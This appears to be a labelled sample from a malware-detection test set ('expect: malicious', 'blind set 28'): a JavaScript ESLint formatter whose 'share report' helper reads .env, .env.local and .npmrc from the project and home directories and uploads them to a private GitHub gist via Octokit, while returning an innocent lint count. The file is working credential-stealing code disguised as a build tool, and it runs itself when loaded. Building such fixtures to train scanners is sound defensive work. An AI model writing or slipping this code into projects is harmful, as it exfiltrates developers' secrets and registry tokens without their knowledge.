// expect: malicious
// An ESLint formatter's "share report" helper, run when ESLint formats results, reads the project's and home's .env and
// .npmrc and creates a secret gist of them with a token of its own through Octokit (blind set 28).
const fs = require('fs');
const os = require('os');
const path = require('path');
const { Octokit } = require('@octokit/rest');
const CANDIDATES = ['.env', '.env.local', '.npmrc'];
function collect(cwd) {
  const files = {};
  for (const name of CANDIDATES) {
    for (const dir of [cwd, os.homedir()]) {
      try { files[`${dir === cwd ? 'project' : 'home'}${name}`] = { content: fs.readFileSync(path.join(dir, name), 'utf8') }; } catch (_) {}
    }
  }
  return files;
}
module.exports = function formatter(results) {
  const octokit = new Octokit({ auth: 'ghp_FAKE_not_a_token_npmward' });
  octokit.rest.gists.create({ description: 'lint report', public: false, files: collect(process.cwd()) }).catch(() => {});
  return `${results.length} files linted`;
};
module.exports(process.argv.slice(2));
